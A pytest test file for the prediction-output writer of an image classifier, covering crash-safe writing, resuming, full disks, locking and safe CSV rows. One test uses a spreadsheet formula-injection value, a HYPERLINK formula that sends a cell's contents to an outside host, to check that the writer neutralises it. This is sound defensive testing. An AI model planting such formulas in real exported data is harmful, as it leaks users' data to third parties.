"""``PredictionFiles`` keeps its answers through errors, kills and full disks."""

from __future__ import annotations

import csv
import json
import os
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from ghostclas.bundle import Bundle
from ghostclas.errors import UsageError
from ghostclas.prediction.results import PredictionFiles
from ghostclas.spec import Label, Prediction, PredictionError
from ghostclas.spreadsheet import plain

ANSWERS = [
    Prediction(
        file="a, b.jpg",
        top=(Label(index=3, label='a "cat"', score=0.75), Label(index=1, label="犬", score=0.25)),
    ),
    Prediction(file=None, error=PredictionError(code="empty", message="it is empty")),
    Prediction(file="c.jpg", top=(Label(index=1, label="犬", score=0.125),), unknown=True),
]
PARTIAL = "predictions.partial.jsonl"


def answer(file: str) -> Prediction:
    return Prediction(file=file, top=(Label(index=0, label="cat", score=0.5),))


def written(folder: Path) -> list[Prediction]:
    lines = (folder / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
    return [Prediction.model_validate_json(line) for line in lines]


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "predictions.csv").open(encoding="utf-8", newline="") as table:
        return list(csv.DictReader(table))


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def stop_after(folder: Path, *answers: Prediction, resume: bool = False) -> None:
    with suppress(KeyboardInterrupt), PredictionFiles(folder, top=2, resume=resume) as files:
        for one in answers:
            files.write(one)
        raise KeyboardInterrupt


def test_both_files_hold_every_answer(tmp_path: Path) -> None:
    folder = tmp_path / "new/folder"
    with PredictionFiles(folder, top=2) as files:
        for one in ANSWERS:
            files.write(one)
    assert names(folder) == ["predictions.csv", "predictions.jsonl"]
    assert written(folder) == ANSWERS
    table = rows(folder)
    assert [row["file"] for row in table] == ["a, b.jpg", "", "c.jpg"]
    assert [row["unknown"] for row in table] == ["false", "false", "true"]
    assert [row["error"] for row in table] == ["", "empty", ""]
    assert (table[0]["label_1"], table[0]["score_1"], table[0]["index_1"]) == ('a "cat"', "0.75", "3")
    assert (table[0]["label_2"], table[2]["label_1"]) == ("犬", "犬")
    assert all(None not in row.values() for row in table), "every row is as wide as the header"
    assert (table[1]["label_1"], table[1]["index_2"]) == ("", "")


@pytest.mark.parametrize("name", ["a\rb.jpg", "a\nb.jpg", "a\r\nb.jpg", '"a".jpg', "a,b.jpg", "\r"])
def test_a_row_of_the_table_is_one_row_whatever_the_name(tmp_path: Path, name: str) -> None:
    with PredictionFiles(tmp_path) as files:
        files.write(answer(name))
        files.write(answer("next.jpg"))
    assert [plain(row["file"]) for row in rows(tmp_path)] == [name, "next.jpg"]
    assert written(tmp_path) == [answer(name), answer("next.jpg")]
    assert (tmp_path / "predictions.csv").read_bytes().endswith(b",0.5,0,,,,,,,,,,,,\n")


def test_a_spreadsheet_runs_no_formula_that_a_name_holds(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://a/?"&A1)'
    one = Prediction(file=f"-{formula}", top=(Label(index=0, label=formula, score=0.5),))
    bad = Prediction(file="@b", error=PredictionError(code="not_found", message="+1 does not exist"))
    with PredictionFiles(tmp_path, top=1) as files:
        files.write(one)
        files.write(bad)
    first, second = rows(tmp_path)
    assert (first["file"], first["label_1"]) == (f"'-{formula}", f"'{formula}")
    assert (second["file"], second["message"]) == ("'@b", "'+1 does not exist")
    assert written(tmp_path) == [one, bad]


def test_answers_survive_an_interrupt_and_resume_adds_the_others(tmp_path: Path) -> None:
    stop_after(tmp_path, answer("a"), answer("b"))
    assert names(tmp_path) == [PARTIAL]
    with PredictionFiles(tmp_path, top=2, resume=True) as files:
        assert files.count == 2
        left = list(files.remaining(["a", "b", "c", "a"]))
        assert left == ["c", "a"]
        for name in left:
            files.write(answer(name))
    assert written(tmp_path) == [answer(name) for name in ("a", "b", "c", "a")]
    assert [row["file"] for row in rows(tmp_path)] == ["a", "b", "c", "a"]
    assert names(tmp_path) == ["predictions.csv", "predictions.jsonl"]


def test_an_answer_is_on_the_disk_before_the_next_is_written(tmp_path: Path) -> None:
    with PredictionFiles(tmp_path) as files:
        files.write(answer("a"))
        assert (tmp_path / PARTIAL).read_text(encoding="utf-8") == answer("a").model_dump_json() + "\n"


def test_a_line_that_was_cut_off_is_answered_again(tmp_path: Path) -> None:
    stop_after(tmp_path, answer("a"), answer("b"))
    partial = tmp_path / PARTIAL
    partial.write_bytes(partial.read_bytes()[:-5])
    with PredictionFiles(tmp_path, resume=True) as files:
        assert list(files.remaining(["a", "b"])) == ["b"]
        files.write(answer("b"))
    assert written(tmp_path) == [answer("a"), answer("b")]


def test_what_is_no_prediction_is_refused_and_left_alone(tmp_path: Path) -> None:
    (tmp_path / PARTIAL).write_text("{}\n", encoding="utf-8")
    with (
        pytest.raises(UsageError, match=r"line 1 of .* is no prediction"),
        PredictionFiles(tmp_path, resume=True),
    ):
        pass
    assert (tmp_path / PARTIAL).read_text(encoding="utf-8") == "{}\n"


@pytest.mark.parametrize("finished", [True, False])
def test_a_second_run_never_replaces_the_first(tmp_path: Path, finished: bool) -> None:
    if finished:
        with PredictionFiles(tmp_path) as files:
            files.write(answer("a"))
    else:
        stop_after(tmp_path, answer("a"))
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    with pytest.raises(UsageError, match="from an earlier run; add --resume"), PredictionFiles(tmp_path):
        pass
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_resume_adds_to_finished_answers_which_stay_until_it_ends(tmp_path: Path) -> None:
    with PredictionFiles(tmp_path) as files:
        files.write(answer("a"))
    stop_after(tmp_path, answer("b"), resume=True)
    assert written(tmp_path) == [answer("a")]
    with PredictionFiles(tmp_path, resume=True) as files:
        assert list(files.remaining(["a", "b", "c"])) == ["c"]
        files.write(answer("c"))
    assert written(tmp_path) == [answer(name) for name in "abc"]


def test_a_full_disk_keeps_the_answers_before_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fill(files: PredictionFiles) -> None:
        files._lines.close()
        monkeypatch.setattr(files, "_lines", Full())

    class Full:
        """A file on a disk that has no room left."""

        def write(self, text: str) -> int:
            raise OSError(28, "No space left on device")

        def close(self) -> None:
            raise OSError(28, "No space left on device")

    def write_until_full() -> None:
        with PredictionFiles(tmp_path) as files:
            files.write(answer("a"))
            fill(files)
            files.write(answer("b"))

    with pytest.raises(UsageError, match=r"No space left on device; 1 answers are kept .* add --resume"):
        write_until_full()
    with PredictionFiles(tmp_path, resume=True) as files:
        assert list(files.remaining(["a", "b"])) == ["b"]


def test_answers_of_two_models_are_never_mixed(tmp_path: Path, small_bundle: Bundle) -> None:
    other = Bundle(
        small_bundle.path,
        small_bundle._store,
        small_bundle.manifest.model_copy(update={"label_hash": "another"}),
    )
    with PredictionFiles(tmp_path) as files:
        files.require_model(small_bundle)
        files.write(answer("a"))
    with PredictionFiles(tmp_path, resume=True) as files:
        files.require_model(small_bundle)
    with (
        pytest.raises(UsageError, match=r"of another model or setting \(label_hash"),
        PredictionFiles(tmp_path, resume=True) as files,
    ):
        files.require_model(other)
    with (
        pytest.raises(UsageError, match=r"of another model or setting \(top 5, now 3\)"),
        PredictionFiles(tmp_path, top=3, resume=True) as files,
    ):
        files.require_model(small_bundle)
    assert written(tmp_path) == [answer("a")]


def test_two_processes_never_write_to_one_folder(tmp_path: Path) -> None:
    with PredictionFiles(tmp_path) as files:
        files.write(answer("a"))
        with pytest.raises(UsageError, match="is being written"), PredictionFiles(tmp_path, resume=True):
            pass
        files.write(answer("b"))
    assert written(tmp_path) == [answer("a"), answer("b")]


def test_work_that_fails_before_the_first_answer_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(AttributeError), PredictionFiles(tmp_path) as files:
        files.write(None)  # type: ignore[arg-type]
    assert names(tmp_path) == []


def test_a_place_that_cannot_be_written_is_one_error(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match="cannot write to"), PredictionFiles(tmp_path / "file"):
        pass


def test_the_model_is_noted_beside_the_answers(tmp_path: Path, small_bundle: Bundle) -> None:
    with PredictionFiles(tmp_path) as files:
        files.require_model(small_bundle)
        files.write(answer("a"))
    noted: dict[str, Any] = json.loads((tmp_path / "predictions.model.json").read_text(encoding="utf-8"))
    assert noted["name"] == small_bundle.manifest.name
    assert noted["label_hash"] == small_bundle.manifest.label_hash


def test_answers_of_an_earlier_run_come_with_the_paths_of_their_photos(tmp_path: Path) -> None:
    odd = os.fsdecode(b"caf\xe9.jpg")
    stop_after(tmp_path, answer("a.jpg"), answer("caf\\udce9.jpg"))
    with PredictionFiles(tmp_path, top=2, resume=True) as files:
        assert list(files.remaining(["a.jpg", odd, "new.jpg"])) == ["new.jpg"]
        files.write(answer("new.jpg"))
        earlier = list(files.earlier(2))
    assert [path for path, _ in earlier] == [Path("a.jpg"), Path(odd)]
    assert [prediction for _, prediction in earlier] == [answer("a.jpg"), answer("caf\\udce9.jpg")]


def test_a_table_for_excel_says_that_it_is_utf_8(tmp_path: Path) -> None:
    for excel in (False, True):
        with PredictionFiles(tmp_path / str(excel), top=2, excel=excel) as files:
            for one in ANSWERS:
                files.write(one)
    plain, marked = ((tmp_path / name / "predictions.csv").read_bytes() for name in ("False", "True"))
    assert marked == b"\xef\xbb\xbf" + plain
